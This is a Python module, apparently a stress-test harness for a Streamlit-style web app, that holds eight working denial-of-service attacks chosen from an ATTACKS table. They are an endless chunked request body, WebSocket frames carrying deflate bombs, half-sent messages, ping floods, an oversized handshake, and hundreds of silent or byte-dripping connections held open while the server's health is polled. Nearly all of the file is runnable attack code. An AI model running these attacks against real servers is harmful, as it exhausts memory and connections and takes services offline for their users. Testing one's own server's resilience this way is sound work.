"""Attacks below the pages: bodies, frames and connections. Each takes less than 300 MB here, and one line says what it came to.

An attack is a function of the server's address and of the seconds that it may take.
"""

from __future__ import annotations

import os
import socket
import struct
import time
import zlib
from collections import Counter
from collections.abc import Callable, Iterator
from contextlib import ExitStack, contextmanager, suppress
from urllib.parse import urlsplit

PIECE = bytes(65536)
STREAM = "/_stcore/stream"
MORE, BINARY, PING = 0, 2, 9


def dial(url: str, patience: float = 5.0) -> socket.socket:
    parts = urlsplit(url)
    return socket.create_connection((parts.hostname or "localhost", parts.port or 80), timeout=patience)


def first_line(line: socket.socket) -> str:
    """The first line of an answer; in words where there is none."""
    try:
        answer = line.recv(4096)
    except TimeoutError:
        return "no answer"
    except OSError:
        return "connection ended"
    return answer.partition(b"\r\n")[0].decode("latin-1") if answer else "connection ended"


def is_open(line: socket.socket) -> bool:
    """Whether the server still holds a connection, on which it says nothing."""
    line.settimeout(0.01)
    try:
        return bool(line.recv(4096)) and is_open(line)
    except TimeoutError:
        return True
    except OSError:
        return False


def endless_body(url: str, seconds: float) -> str:
    """A body that never ends, to a route that reads one, until the server stops it or the time is over."""
    sent, until = 0, time.monotonic() + seconds
    with dial(url) as line:
        line.sendall(f"POST /rooms/ABCDEF/lead HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\n".encode())
        line.sendall(b"Transfer-Encoding: chunked\r\n\r\n")
        with suppress(OSError):
            while time.monotonic() < until and sent < 2**30:
                line.sendall(b"10000\r\n" + PIECE + b"\r\n")
                sent += len(PIECE)
        return f"{sent / 1e6:,.1f} MB of a body were taken; then: {first_line(line)}"


# ---------------------------------------------------------------- lines


@contextmanager
def line_to(url: str, path: str = STREAM) -> Iterator[socket.socket]:
    """A WebSocket, once the server has opened it. Raises ConnectionError with its answer where it does not."""
    with dial(url) as line:
        line.sendall(
            f"GET {path} HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nOrigin: {url.rstrip('/')}\r\nUpgrade: websocket\r\n"
            "Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
            "Sec-WebSocket-Protocol: streamlit\r\n"
            "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits=12\r\n\r\n".encode()
        )
        if " 101 " not in (status := first_line(line)):
            raise ConnectionError(status)
        yield line


def frame(kind: int, data: bytes, whole: bool = True, deflated: bool = False, length: int = -1) -> bytes:
    """A frame as a browser sends it. length: what it announces, where that is not what it brings."""
    length = len(data) if length < 0 else length
    if length < 126:
        size = bytes([128 | length])
    elif length < 65536:
        size = struct.pack("!BH", 254, length)
    else:
        size = struct.pack("!BQ", 255, length)
    return bytes([whole << 7 | deflated << 6 | kind]) + size + bytes(4) + data


def deflated(size: int) -> bytes:
    """So many zeros, as a thousandth of that."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -12)
    return b"".join([*(deflate.compress(PIECE) for _ in range(size // len(PIECE))), deflate.flush(zlib.Z_SYNC_FLUSH)])[:-4]


def on_lines(url: str, seconds: float, count: int, feed: Callable[[socket.socket], None]) -> str:
    """Feed so many lines, and look how many the server holds until the time is over."""
    until, refused = time.monotonic() + seconds, Counter[str]()
    with ExitStack() as stack:
        lines = []
        for _ in range(count):
            try:
                lines.append(stack.enter_context(line_to(url)))
            except OSError as error:
                refused[str(error) or type(error).__name__] += 1
        opened, fed = len(lines), 0
        while lines and time.monotonic() < until:
            for line in lines:
                with suppress(OSError):
                    line.settimeout(0.5)
                    feed(line) if fed == 0 else None
            fed = 1
            lines = [line for line in lines if is_open(line)]
            time.sleep(min(0.5, max(0.0, until - time.monotonic())))
        took = seconds - max(0.0, until - time.monotonic())
        more = f"; refused: {dict(refused)}" if refused else ""
        return f"{opened} lines were opened{more}; {len(lines)} are still open after {took:.0f} s"


def unfinished_frames(url: str, seconds: float) -> str:
    """Frames that announce 190 MB and bring 200 kB, which are 200 MB where they are inflated before they are whole."""
    bomb = deflated(190 * 2**20)
    return on_lines(url, seconds, 10, lambda line: line.sendall(frame(BINARY, bomb, whole=False, deflated=True)))


def half_messages(url: str, seconds: float) -> str:
    """A hundred messages of which the last byte never comes."""
    half = frame(BINARY, os.urandom(900_000), length=1_000_000)
    return on_lines(url, seconds, 100, lambda line: line.sendall(half))


def inflated_messages(url: str, seconds: float) -> str:
    """Many small messages that are a megabyte each when they are inflated."""
    bombs = frame(BINARY, deflated(2**20), deflated=True) * 200
    return on_lines(url, seconds, 5, lambda line: line.sendall(bombs))


def pings(url: str, seconds: float) -> str:
    """A flood of pings from somebody who reads no answer."""
    many, sent, until = frame(PING, b"") * 10_000, 0, time.monotonic() + seconds
    try:
        with line_to(url) as line:
            line.settimeout(1)
            with suppress(ConnectionError):
                while time.monotonic() < until:
                    with suppress(TimeoutError):
                        sent += line.send(many)
    except ConnectionError as error:
        return f"No line: {error}"
    return f"{sent / 6:,.0f} pings were taken in {seconds:.0f} s"


def long_handshake(url: str, seconds: float) -> str:
    """A handshake with a line of nine thousand signs."""
    try:
        with line_to(url, f"{STREAM}?{'x' * 9000}"):
            return "the handshake was accepted"
    except OSError as error:
        return f"answer to a handshake with a long line: {error}"


# ---------------------------------------------------------------- connections


def silent_connections(url: str, seconds: float) -> str:
    """Three hundred connections on which nothing is said, and whether others are answered meanwhile."""
    return held_open(url, seconds, 300, b"")


def slow_requests(url: str, seconds: float) -> str:
    """Three hundred requests that come by a byte at a time."""
    return held_open(url, seconds, 300, b"X")


def held_open(url: str, seconds: float, count: int, drip: bytes) -> str:
    until, answers, refused = time.monotonic() + seconds, Counter[str](), 0
    with ExitStack() as stack:
        lines = []
        for _ in range(count):
            try:
                lines.append(stack.enter_context(dial(url)))
            except OSError:
                refused += 1
        for line in lines if drip else ():
            with suppress(OSError):
                line.sendall(b"GET / HTTP/1.1\r\nX: ")
        while time.monotonic() < until:
            for line in lines if drip else ():
                with suppress(OSError):
                    line.sendall(drip)
            answers[health(url)] += 1
            time.sleep(min(1.0, max(0.0, until - time.monotonic())))
        held = sum(map(is_open, lines))
    return f"{count - refused} of {count} connections were opened, {held} are open after {seconds:.0f} s; health: {dict(answers)}"


def health(url: str) -> str:
    """Return the server’s answer to a newcomer’s health check."""
    try:
        with dial(url) as line:
            line.sendall(f"GET /_stcore/health HTTP/1.1\r\nHost: {urlsplit(url).netloc}\r\nConnection: close\r\n\r\n".encode())
            return first_line(line)
    except OSError as error:
        return type(error).__name__


ATTACKS: dict[str, Callable[[str, float], str]] = {
    "a body without an end": endless_body,
    "unfinished frames": unfinished_frames,
    "halves of messages": half_messages,
    "inflated messages": inflated_messages,
    "pings": pings,
    "a long handshake": long_handshake,
    "silent connections": silent_connections,
    "slow requests": slow_requests,
}
